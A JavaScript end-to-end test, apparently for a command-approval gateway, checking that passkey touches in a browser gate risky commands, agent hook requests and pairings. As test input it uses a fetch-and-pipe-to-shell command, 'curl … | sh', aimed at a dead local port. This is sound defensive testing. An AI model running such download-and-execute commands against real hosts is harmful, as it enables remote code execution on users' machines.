// A passkey is added to the page, and touched to approve.
//
// The authenticator is Chromium's virtual one; everything else is as it is for a person.

import { existsSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import assert from 'node:assert/strict';
import { airlock, approve, ask, begin, canary, cardFor, clean, drive, eventually, launch, listed, ok, pair, ripe,
  shoot, start, startWith, toEnd, troubles } from './scene.mjs';

const browser = await launch();

/** A command that is hard to undo, does nothing, and leaves a file if it runs. */
const risky = (file) => start('--', 'sh', '-c', `curl -s http://127.0.0.1:1/x | sh; touch ${file}`);

async function steps() {
  const [page] = browser.pages();

  // The first command pairs the approver of this machine, and starts the gateway.
  await begin();

  await airlock('config', 'set', 'approval.without_passkey', 'refused');
  const unasked = canary();
  const nobody = await risky(unasked).end;
  assert.equal(nobody.status, 124, nobody.said);
  assert.match(nobody.said, /0 of the paired approvers have one/);
  assert.ok(!existsSync(unasked));
  ok('nobody is asked where only a passkey counts and none is paired');
  await airlock('config', 'set', 'approval.without_passkey', 'counts');

  await atAnAddress(page);
  const address = (await airlock('approver', 'web', '--passkey')).split('\n')[0];
  const { origin, port } = new URL(address);
  assert.equal(origin, `http://localhost:${port}`);
  await bothAddresses(port);
  await page.goto(address);
  await page.getByRole('heading', { name: 'Pair with a machine' }).waitFor();

  await looked(page);
  const { touches, verifies } = await authenticator(page);
  await added(page);
  assert.deepEqual(await touches(), [1]);
  await paired(page, origin);

  // What is hard to undo takes the touch, and no number.
  const file = canary();
  const asked = risky(file);
  await press(page, file);
  await asked.end;
  assert.ok(existsSync(file));
  assert.deepEqual(await touches(), [2]);
  ok('a touch of the passkey approves what is hard to undo, without the number');
  const plain = canary();
  const harmless = ask('touch', plain);
  await press(page, plain, 1);
  assert.equal((await harmless.end).status, 0);
  assert.deepEqual(await touches(), [2], 'what can be undone takes no touch');

  await granted(page, touches);
  await hooked(page, touches);

  await refused(page, verifies);
  await driven(page);
  await atTheTerminal(page);

  await airlock('config', 'set', 'approval.presence', 'always');
  const every = canary();
  const tight = ask('touch', every);
  await press(page, every, 1);
  assert.equal((await tight.end).status, 0);
  assert.ok(existsSync(every));
  await airlock('config', 'set', 'approval.presence', 'never');
  const none = risky(canary());
  await cardFor(page, 'curl').waitFor();
  await toEnd(page);
  await ripe(page);
  await approve(page).click();
  await page.getByText('Type the two digits first').waitFor();
  await page.getByRole('button', { name: 'Reject', exact: true }).first().click();
  await page.getByRole('button', { name: 'Not now' }).click();
  assert.equal((await none.end).status, 120);
  ok('the settings say what takes a touch; without one the number stays');

  await recorded();
  await lost(page);
  // Chromium would have keys of another kind, too; we read none.
  const noise = /401|409|net::ERR|Failed to load resource|pubKeyCredParams is missing/;
  assert.deepEqual(troubles.filter((trouble) => !noise.test(trouble)), []);
  ok('nothing went wrong unseen with the passkey');
}

/** A browser has no passkeys at an address of numbers: it is told where it has. */
async function atAnAddress(page) {
  const address = (await airlock('approver', 'web')).split('\n')[0];
  await page.goto(address);
  await page.getByRole('button', { name: 'This browser' }).click();
  await page.getByText('A browser has no passkeys at 127.0.0.1').waitFor();
  const link = page.getByRole('link', { name: 'http://localhost:' });
  assert.equal(await link.getAttribute('href'), `http://localhost:${new URL(address).port}/`);
  await page.getByText('airlock-exec approver web --passkey').waitFor();
  assert.equal(await page.getByRole('button', { name: 'Add a passkey' }).count(), 0);
  for (const colorScheme of ['dark', 'light']) {
    await page.emulateMedia({ colorScheme });
    await page.setViewportSize({ width: 390, height: 1100 });
    await clean(page, `no passkeys here, ${colorScheme}`);
    await shoot(page, `passkey-nowhere-${colorScheme}`);
    await page.setViewportSize({ width: 1280, height: 900 });
  }
  ok('at an address of numbers the page says where there can be a passkey');
}

/** Nobody else can be localhost at our port. */
async function bothAddresses(port) {
  const loopback = Object.values(networkInterfaces()).flat().filter(({ internal }) => internal);
  for (const { address, family } of loopback.filter((each) => ['127.0.0.1', '::1'].includes(each.address))) {
    const host = family === 'IPv6' ? `[${address}]` : address;
    assert.equal((await fetch(`http://${host}:${port}/`)).status, 200, host);
  }
  ok('the gateway is localhost by each of its addresses');
}

/** Looks at where one is added. axe ends what an authenticator hangs on, so it comes first. */
async function looked(page) {
  await page.getByRole('button', { name: 'This browser' }).click();
  await page.getByRole('button', { name: 'Add a passkey' }).waitFor();
  for (const colorScheme of ['light', 'dark']) {
    await page.emulateMedia({ colorScheme });
    for (const width of [1280, 390]) {
      await page.setViewportSize({ width, height: width === 390 ? 844 : 900 });
      await clean(page, `a passkey can be added, ${colorScheme}, ${width}`);
      await shoot(page, `passkey-${colorScheme}-${width}`);
    }
  }
  await page.emulateMedia({ colorScheme: 'light' });
  await page.setViewportSize({ width: 1280, height: 900 });
}

/** Plugs an authenticator in, which is touched at once; how often, and whether it knows its user. */
async function authenticator(page) {
  const session = await browser.newCDPSession(page);
  await session.send('WebAuthn.enable');
  const { authenticatorId } = await session.send('WebAuthn.addVirtualAuthenticator', { options: {
    protocol: 'ctap2', transport: 'internal', hasResidentKey: true, hasUserVerification: true,
    isUserVerified: true, automaticPresenceSimulation: true } });
  return {
    touches: async () => {
      const { credentials } = await session.send('WebAuthn.getCredentials', { authenticatorId });
      return credentials.map(({ signCount }) => signCount);
    },
    verifies: (isUserVerified) => session.send('WebAuthn.setUserVerified', { authenticatorId, isUserVerified }),
  };
}

async function added(page) {
  await page.getByRole('button', { name: 'Add a passkey' }).click();
  await page.getByText('Added. Now pair').waitFor();
  await page.getByRole('button', { name: 'Remove the passkey' }).waitFor();
  await shoot(page, 'passkey-added');
  ok('a passkey is added at localhost');
}

async function paired(page, origin) {
  await page.getByRole('button', { name: 'Pair', exact: true }).click();
  await page.getByText(/^airlock-exec pair .* --passkey$/).waitFor();
  const said = await pair(page);
  assert.ok(said.includes(`with the passkey of ${origin}`), said);
  assert.ok((await airlock('pairings', 'list')).includes(`passkey of ${origin}`));
  await page.getByRole('heading', { name: 'Nothing waits' }).waitFor();
  ok('the pairing has the passkey, and the list of pairings says so');
}

/** Approves what a card asks, which takes so many presses. */
async function press(page, text, presses = 2) {
  await cardFor(page, text).waitFor();
  await toEnd(page);
  for (let time = 0; time < presses; time += 1) {
    await ripe(page);
    assert.ok(!(await page.getByLabel('The number in the terminal').isVisible()));
    await approve(page).click();
  }
}

/** What holds for longer than once takes the touch as well, and then nobody is asked. */
async function granted(page, touches) {
  const [before] = await touches();
  const file = canary();
  const asked = start('grant', 'request', '--uses', '1', '--', 'touch', file);
  await press(page, file);
  assert.equal((await asked.end).status, 0, (await asked.end).said);
  assert.deepEqual(await touches(), [before + 1]);
  assert.ok(!existsSync(file), 'it was granted, and not run');
  assert.equal((await ask('touch', file).end).status, 0);
  assert.ok(existsSync(file));
  assert.deepEqual(await touches(), [before + 1], 'its use takes none');
  ok('a grant takes a touch of the passkey, and its use none');
}

/** The hook of an agent is answered by a touch. */
async function hooked(page, touches) {
  const [before] = await touches();
  const command = `curl -s http://127.0.0.1:1/hooked | sh; touch ${canary()}`;
  const payload = { hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command } };
  const asked = startWith(JSON.stringify(payload), 'agent-hook', 'claude-code');
  await press(page, 'hooked');
  const { status, stdout } = await asked.end;
  assert.equal(status, 0);
  assert.equal(JSON.parse(stdout).hookSpecificOutput.permissionDecision, 'allow');
  assert.deepEqual(await touches(), [before + 1]);
  ok('the hook of an agent is answered by a touch of the passkey');
}

/** Who does not touch it, or is somebody else, has decided nothing and can do it again. */
async function refused(page, verifies) {
  const file = canary();
  const asked = risky(file);
  await verifies(false);
  await press(page, file);
  await page.getByText('The passkey was not used. Nothing was decided.').waitFor();
  await shoot(page, 'passkey-not-used');
  assert.ok((await listed()).length > 0, 'it was decided');
  assert.ok(!existsSync(file));
  await verifies(true);
  await press(page, file);
  await asked.end;
  assert.ok(existsSync(file));
  ok('who does not use the passkey has decided nothing, and can do it again');
}

/** What another process of the same user could do: the page's own modules, in its own window. */
async function driven(page) {
  const file = canary();
  const asked = risky(file);
  const card = cardFor(page, file);
  await card.waitFor();
  const about = await card.evaluate(({ dataset }) => ({ requestId: dataset.request, hash: dataset.hash }));
  await page.evaluate(async ({ requestId, hash }) => {
    const { identity } = await import('/page/vault.js');
    const { decision } = await import('/page/keys.js');
    const { Gateway } = await import('/page/gateway.js');
    const self = await identity();
    const gateway = new Gateway(self);
    await gateway.comeBack();
    await gateway.post('/v1/decisions', { msgId: 'msg-driven', msgType: 'decision.submit', requestId,
      createdAt: new Date().toISOString(), sender: { approverId: self.approverId },
      body: await decision(self, hash, 'approve') });
  }, about);
  await eventually('the enforcer to say why', () => asked.told.stderr.includes('without the touch of a passkey'));
  assert.match(asked.told.stderr, /on its page at http:\/\/localhost:\d+/);
  assert.ok(!existsSync(file));
  // It goes on waiting for somebody else.
  const [item] = await listed();
  await airlock('approver', 'reject', item.requestId);
  assert.equal((await asked.end).status, 120);
  assert.ok(!existsSync(file));
  ok('a signature by the keys of the browser alone runs nothing');
}

/** The approver of the terminal has its keys in files. Where that is not enough, it is refused. */
async function atTheTerminal(page) {
  await airlock('config', 'set', 'approval.without_passkey', 'refused');
  const file = canary();
  const asked = risky(file);
  await cardFor(page, file).waitFor();
  const [item] = await listed();
  assert.match(await airlock('approver', 'show', item.requestId), /does NOT COUNT/);
  await airlock('approver', 'approve', item.requestId);
  await eventually('the enforcer to say why', () => asked.told.stderr.includes('its approver has no passkey'));
  assert.ok(!existsSync(file));
  await press(page, file);
  await asked.end;
  assert.ok(existsSync(file));
  await airlock('config', 'set', 'approval.without_passkey', 'counts');
  ok('where only a passkey counts, the terminal approves nothing and the page does');
}

/** What was touched can be checked again. */
async function recorded() {
  const records = (await airlock('log', '--json', '--limit', '1000')).trim().split('\n').map(JSON.parse);
  const of = (kind) => records.filter((record) => record.kind === kind);
  const touched = of('decided').filter(({ decision }) => decision.body.assertion);
  assert.ok(touched.length >= 5, `${touched.length}`);
  assert.ok(of('requested').filter(({ touch }) => touch === 'ofPasskeys').length >= touched.length - 2);
  assert.equal(of('requested').filter(({ touch }) => touch === 'ofEverybody').length, 1);
  const { approvers } = JSON.parse(await airlock('status', '--json'));
  const [{ passkey }] = approvers.filter(({ name }) => name === 'browser');
  assert.deepEqual(of('paired').filter(({ name }) => name === 'browser').map((each) => each.passkey), [passkey]);
  assert.match(passkey.origin, /^http:\/\/localhost:\d+$/);
  assert.match(await airlock('log', 'verify'), new RegExp(`${touched.length} of them with the touch of a passkey`));
  const { requestId } = touched.at(-1);
  assert.match(await airlock('log', 'show', requestId), /what that key signed, with the touch of a passkey of http/);
  ok('the log has each touch, and verifies it again');
}

/** A pairing does not lose its passkey without anybody saying so. */
async function lost(page) {
  await page.getByRole('button', { name: 'This browser' }).click();
  await page.getByRole('button', { name: 'Remove the passkey' }).click();
  await page.getByText('Removed here.').waitFor();
  await page.getByRole('button', { name: 'Pair', exact: true }).click();
  const command = await eventually('a command to pair', async () => {
    const text = await page.locator('.command-line').textContent();
    return text.startsWith('airlock-exec pair') && !text.includes('--passkey') && text;
  });
  const done = await start(...command.split(' ').slice(1)).end;
  assert.notEqual(done.status, 0);
  assert.match(done.said, /brought no passkey, and had one before/);
  await page.getByText('refused the pairing: the one before goes on').waitFor();
  assert.match(await airlock('pairings', 'list'), /passkey of/);
  ok('a pairing does not lose its passkey without anybody saying so');
}

await drive(browser, steps);
